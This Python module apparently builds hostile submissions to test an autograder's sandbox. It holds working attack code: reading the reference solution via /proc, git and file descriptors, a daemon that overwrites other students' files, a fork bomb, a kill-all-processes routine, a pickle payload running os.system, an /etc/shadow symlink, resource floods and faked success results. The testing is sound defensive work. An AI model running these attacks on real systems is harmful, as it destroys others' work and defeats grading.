"""The hostile suite: attacks placed in the student functions of otherwise perfect submissions.

Each hostile submission is the reference with six functions ("slots") replaced by attacks; each slot is
judged by one check that calls that function only, so an attack scores its check's points only if it
succeeds. A theft attack computes the right answer from what it stole (the master's source, another
submission's, the reference results), and fails loudly otherwise; a damage attack does its harm and
then fails (its check scores 0 either way; the test looks for what it left behind). 'sigmoid values' is
left honest in every submission: the honest part each must still score.
"""

from asgn3.data_paths import KIT_DIR

RNN, IMAGE = "asgn3/rnn_layers.py", "asgn3/image_gradients.py"
# slot function: (file, how its outputs are assigned from _result, the check that calls it alone, points)
SLOTS = {
    "rnn_step_forward": (RNN, "next_h, cache = _result", "rnn_step_forward values", 3),
    "word_embedding_forward": (RNN, "out, cache = _result", "word_embedding_forward values", 2),
    "temporal_softmax_loss": (RNN, "loss, dx = _result", "temporal_softmax_loss loss and dx", 4),
    "temporal_affine_forward": (RNN, "out, cache = _result", "temporal_affine forward and backward", 3),
    "compute_saliency_maps": (IMAGE, "saliency = _result", "compute_saliency_maps values", 5),
    "make_fooling_image": (IMAGE, "X_fooling = _result", "make_fooling_image fools the model", 5),
}
HONEST = {"sigmoid values": 3}
ONLY = [check for _, _, check, _ in SLOTS.values()] + list(HONEST)
FULL_SCORE = sum(points for *_, points in SLOTS.values()) + sum(HONEST.values())
KIT = str(KIT_DIR)

# -- theft: find the master's source of this very module, run the master's function ------------------

_STEAL_HEAD = """
# hostile-attack
import glob, os, sys
_frame = sys._getframe()
_own = _frame.f_globals["__name__"].replace(".", "/") + ".py"
_name = _frame.f_code.co_name
_source = ""


def _good(text):
    return f"def {_name}(" in text and "hostile" + "-attack" not in text


def _first(paths):
    for path in paths:
        try:
            with open(path, errors="replace") as f:
                text = f.read()
        except (OSError, ValueError):
            continue
        if _good(text):
            return text
    return ""
"""

_STEAL_TAIL = """
if not _good(_source):
    raise RuntimeError("the attack found nothing to steal")
_stolen = {"__name__": "stolen"}
exec(compile(_source, "stolen", "exec"), _stolen)
_args = [_frame.f_locals[n] for n in _frame.f_code.co_varnames[: _frame.f_code.co_argcount]]
_result = _stolen[_name](*_args)
"""

THEFTS = {
    "reads the master by its absolute path": "_source = _first([f'{KIT}/{_own}'])",
    "reads the master by relative paths from its folder": """
_source = _first(["../" * depth + f"{KIT.lstrip('/')}/{_own}" for depth in range(1, 14)]
                 + [p for depth in range(1, 8) for p in glob.glob("../" * depth + "*/" + _own)])
""",
    "reads the master through /proc/*/root, /proc/*/cwd and the mount table": """
try:
    roots = [line.split()[4] for line in open("/proc/self/mountinfo")]
except OSError:
    roots = []
_source = _first(glob.glob(f"/proc/*/root{KIT}/{_own}") + glob.glob(f"/proc/*/cwd/{_own}")
                 + glob.glob(f"/proc/*/cwd/../../../{_own}") + [f"{r}/{_own}" for r in roots])
""",
    "reads other copies of the master and other submissions' kits": """
patterns = ["/*/" + _own, "/*/*/" + _own, "/*/*/*/" + _own, "/*/*/*/*/" + _own, "/*/*/*/*/*/" + _own,
            "/tmp/*/box/kit/" + _own, "/tmp/*/submission/" + _own, "/tmp/*/*/" + _own, "/root/*/" + _own]
_source = _first([p for pattern in patterns for p in glob.glob(pattern)])
""",
    "asks git for the master": """
import subprocess
_source = subprocess.run(["git", "-C", KIT, "show", "HEAD:" + _own], capture_output=True, text=True).stdout
""",
    "copies the master with posix_spawn": """
pid = os.posix_spawn("/bin/cat", ["cat", f"{KIT}/{_own}"], {},
                     file_actions=[(os.POSIX_SPAWN_OPEN, 1, "spawned.txt", os.O_WRONLY | os.O_CREAT, 0o600)])
os.waitpid(pid, 0)
_source = _first(["spawned.txt"])
""",
    "copies the master with ctypes and system()": """
import ctypes
ctypes.CDLL(None).system(f"cat {KIT}/{_own} > system.txt 2>/dev/null".encode())
_source = _first(["system.txt"])
""",
    "follows the editable install's finder to the master": """
finders = [p for d in sys.path if os.path.isdir(d) for p in glob.glob(d + "/__editable__*finder.py")]
places = []
for finder in finders:
    text = open(finder).read()
    places += [part.split("'")[0] for part in text.split("'/")[1:]]
_source = _first(["/" + place.rstrip("/") + "/" + _own.split("/", 1)[1] for place in places])
""",
    "finds the checkout in the grader's environment and command lines": """
paths = set()
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        words = open(name, "rb").read().replace(b"=", b"\\0").split(b"\\0")
    except OSError:
        continue
    paths |= {w.decode(errors="replace") for w in words if w.startswith(b"/")}
paths |= {v for v in os.environ.values() if v.startswith("/")}
candidates = []
for path in paths:
    while path not in ("", "/"):
        candidates.append(path + "/" + _own)
        path = os.path.dirname(path)
_source = _first(candidates)
""",
    "reads inherited file descriptors": """
for fd in range(3, 1024):
    try:
        data = os.pread(fd, 1 << 22, 0).decode(errors="replace")
    except OSError:
        continue
    if _good(data):
        _source = data
""",
    "links the master into its job folder": """
for link in (os.symlink, os.link):
    try:
        link(f"{KIT}/{_own}", "linked.py")
    except OSError:
        continue
    _source = _source or _first(["linked.py"])
    os.remove("linked.py")
""",
    "imports the master through the import system": """
import importlib, inspect
sys.path.insert(0, KIT)
saved = {k: v for k, v in sys.modules.items() if k == "asgn3" or k.startswith("asgn3.")}
for key in saved:
    del sys.modules[key]
try:
    importlib.invalidate_caches()
    _source = inspect.getsource(importlib.import_module(_frame.f_globals["__name__"]))
except Exception:
    pass
finally:
    sys.modules.update(saved)
""",
    "searches frames and the garbage collector for the master": """
import gc
frame = _frame
while frame is not None:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if isinstance(value, str) and _good(value):
            _source = value
    frame = frame.f_back
for value in gc.get_objects():
    if isinstance(value, str) and _good(value):
        _source = value
""",
}

# -- what a theft of the reference *results* looks like (slot rnn_step_forward only) ------------------

STEAL_RESULTS = """
# hostile-attack
import glob, numpy
found = None
patterns = ["/tmp/*/reference*/out_*.npz", "/tmp/*/*/out_*.npz", "../../../*/out_*.npz", "../../*/out_*.npz",
            "/proc/*/cwd/out_*.npz", "/tmp/*/*/*/out_*.npz", "/tmp/*/*/*/*/out_*.npz"]
for path in [p for pattern in patterns for p in glob.glob(pattern)]:
    try:
        with numpy.load(path) as data:
            if "next_h" in data.files and data["next_h"].shape == prev_h.shape:
                found = data["next_h"]
    except Exception:
        continue
if found is None:
    raise RuntimeError("no reference results found")
next_h, cache = found, None
"""


def theft(code):
    return _STEAL_HEAD + f"KIT = {KIT!r}\n" + code.strip("\n") + "\n" + _STEAL_TAIL


# -- lies, forged result files, damage ----------------------------------------------------------------

FORGE_HEAD = """
# hostile-attack
import io, json, os, zipfile
import numpy
def _status(text):
    with open("status_0.json", "w") as f:
        f.write(text)
def _npz(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()
def _npy(array):
    buffer = io.BytesIO()
    numpy.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()
"""
FORGE_EXIT = '\n_status(json.dumps({"ok": True, "missing": []}))\nos._exit(0)\n'

# A lie in each slot: answers of the right shape (or close to it) that are not plain real numbers.
LIES = {
    "rnn_step_forward": (
        "answers in complex numbers (the right real part)",
        "next_h, cache = np.tanh(x @ Wx + prev_h @ Wh + b) + 1000j, None",
    ),
    "word_embedding_forward": (
        "answers with an array-like that lies about itself",
        """
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return np.zeros_like(other)
    __rsub__ = __sub__
class Shape:
    shape = x.shape + W.shape[1:]
    dtype = np.float64
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape).view(Liar)
out, cache = Shape(), None
""",
    ),
    "temporal_softmax_loss": (
        "answers a structured dtype",
        "t = [('a', float), ('b', float)]\nloss, dx = np.zeros((), dtype=t), np.zeros(x.shape, dtype=t)",
    ),
    "temporal_affine_forward": (
        "answers an array too large for its job folder",
        "out, cache = np.ones((40_000_000,)), None",
    ),
    "compute_saliency_maps": ("answers nan", "saliency = np.full((X.shape[0],) + X.shape[2:], np.nan)"),
    "make_fooling_image": ("answers inf and a broadcastable scalar", "X_fooling = np.float64(np.inf)"),
}

FORGERIES = {
    "forges a result that is not a zip": 'open("out_0.npz", "wb").write(b"PK\\x03\\x04 not a zip at all")',
    "forges a result with a CRC mismatch": """
data = bytearray(_npz({"next_h.npy": _npy(numpy.zeros((3, 4))), "out.npy": _npy(numpy.zeros((3, 5, 4)))}))
data[60] ^= 0xFF
open("out_0.npz", "wb").write(bytes(data))
""",
    "forges an .npy header declaring terabytes": """
header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }".ljust(117) + "\\n"
npy = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(64)
names = ["next_h", "out", "loss", "dx", "saliency", "X_fooling"]
open("out_0.npz", "wb").write(_npz({name + ".npy": npy for name in names}))
""",
    "forges a status nested ten thousand levels deep": 'open("out_0.npz", "wb").write(_npz({}))\n'
    + '_status("[" * 100000 + "]" * 100000)\nos._exit(0)',
    "forges result files that are links to the grader's files": """
for target in ["/etc/shadow", "../../reference/out_0.npz", "../../../reference/out_0.npz"]:
    try:
        os.symlink(target, "out_0.npz")
        break
    except OSError:
        pass
""",
    "forges a pickled result": """
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/asgn3-hostile-pickle",))
open("out_0.npz", "wb").write(_npz({"saliency.npy": _npy(numpy.array([Payload()], dtype=object))}))
""",
}


_FAIL = '\nraise RuntimeError("the attack is done")\n'
DAMAGE = {
    "leaves a daemon (setsid, double fork) that rewrites other kits": """
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for path in glob.glob("/tmp/*/box/kit/asgn3/*.py") + glob.glob("/tmp/*/*/kit/asgn3/*.py"):
                try:
                    open(path, "w").write("raise SystemExit('sabotaged')\\n")
                except OSError:
                    pass
            try:
                open("/tmp/asgn3-hostile-daemon", "w").write("alive")
            except OSError:
                pass
            time.sleep(0.1)
    os._exit(0)
time.sleep(0.5)
""",
    "leaves a daemon forked through ctypes": """
import ctypes
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    libc.sleep(120)
    libc._exit(0)
""",
    "leaves a sleeper started with posix_spawn in its own session": """
import os
os.posix_spawn("/bin/sleep", ["sleep", "120"], {}, setsid=True)
""",
    "kills its supervisor and every process it may signal": """
import os, signal
for pid in (os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    "creates System V shared memory, semaphores and queues": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, ctypes.c_size_t(1 << 30), 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 1, 256 << 20)  # hold 256 MB of host memory after the run
libc.semget(0, 4, 0o1000 | 0o666)
libc.msgget(0, 0o1000 | 0o666)
""",
    "creates POSIX shared memory, a message queue and a kernel key": """
import ctypes
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory(name="asgn3_hostile", create=True, size=1 << 20)
except Exception:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.mq_open(b"/asgn3_hostile", 0o100 | 0o2, 0o666, None)  # O_CREAT | O_RDWR
libc.syscall(248, b"user", b"asgn3_hostile", b"secret", 6, -4)  # add_key to the user keyring
""",
    "floods its job folder with big files": """
block = bytes(32 << 20)
for index in range(64):
    with open(f"flood{index}.bin", "wb") as f:
        f.write(block)
""",
    "floods its job folder with small files": """
import os
os.makedirs("many", exist_ok=True)
for index in range(100_000):
    open(f"many/{index}", "w").close()
""",
    "floods its output": """
import sys
line = "x" * (1 << 20)
for _ in range(400):
    sys.stdout.write(line)
    sys.stderr.write(line)
""",
    "writes outside its job folder and reaches for the network": f"""
import os, socket
for path in ["{KIT}/asgn3-hostile-was-here", "{KIT}/.venv/asgn3-hostile-was-here", "/tmp/asgn3-hostile-file",
             "/var/tmp/asgn3-hostile-file", "/dev/shm/asgn3-hostile-file", "{KIT}/{RNN}"]:
    try:
        open(path, "a").write("# hostile\\n")
    except OSError:
        pass
for family, kind, address in [(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
                              (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock")]:
    try:
        socket.socket(family, kind).connect(address)
    except OSError:
        pass
""",
    "runs forever": "while True:\n    pass",
    "sleeps forever": "import time\ntime.sleep(1000)",
    "hogs memory": "hog = bytearray(16 << 30)",
    "fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "monkeypatches the runner to report success": """
import sys
for module in list(sys.modules.values()):
    for name in ("write_outcome", "plain_array", "write_failure"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: None)
import numpy
numpy.savez = lambda *args, **kwargs: None
open("status_0.json", "w").write('{"ok": true, "missing": []}')
""",
}


def damage(code):
    return "# hostile-attack\n" + code.strip("\n") + _FAIL


def forgery(code):
    """Forge this job's result files, then leave before the runner writes its own."""
    if "os._exit" in code:
        return FORGE_HEAD + code
    return FORGE_HEAD + code.strip("\n") + FORGE_EXIT


def hostile_submissions():
    """{submission: {slot: (attack name, code)}}, six attacks in each; and their module-level attacks.

    Returns (submissions, module_code) where module_code is {submission: (file, top-level code)}.
    """
    slots = list(SLOTS)
    thefts = list(THEFTS.items())
    stolen = {}
    for index, (name, code) in enumerate(thefts):
        submission, slot = f"theft-{index // 6 + 1}", slots[index % 6]
        stolen.setdefault(submission, {})[slot] = (name, theft(code) + SLOTS[slot][1] + "\n")
    stolen["theft-3"]["temporal_softmax_loss"] = ("steals the reference results", STEAL_RESULTS)
    damage_names = list(DAMAGE)
    submissions = {
        **stolen,
        "lies": {
            slot: (name, "# hostile-attack\n" + code.strip("\n")) for slot, (name, code) in LIES.items()
        },
        "forgeries": {
            slot: (name, forgery(code)) for slot, (name, code) in zip(slots, FORGERIES.items(), strict=True)
        },
    }
    for index in range(0, len(damage_names), 6):
        submissions[f"damage-{index // 6 + 1}"] = {
            slot: (name, damage(DAMAGE[name]))
            for slot, name in zip(slots, damage_names[index : index + 6], strict=False)
        }
    extra = submissions.pop(f"damage-{(len(damage_names) + 5) // 6}")
    free = [slot for slot in slots if slot not in submissions["theft-3"]]
    submissions["theft-3"].update(zip(free, extra.values(), strict=False))
    # the grader keeps a submission's own top-level assignments (helpers), so this one runs at import
    module_code = {"slow-import": (IMAGE, "_slow = __import__('time').sleep(1000)\n")}
    submissions["slow-import"] = {}
    return submissions, module_code


def honest_part(slots_attacked):
    """The points a submission with these slots attacked must still score: the other checks'."""
    return FULL_SCORE - sum(SLOTS[slot][3] for slot in slots_attacked)
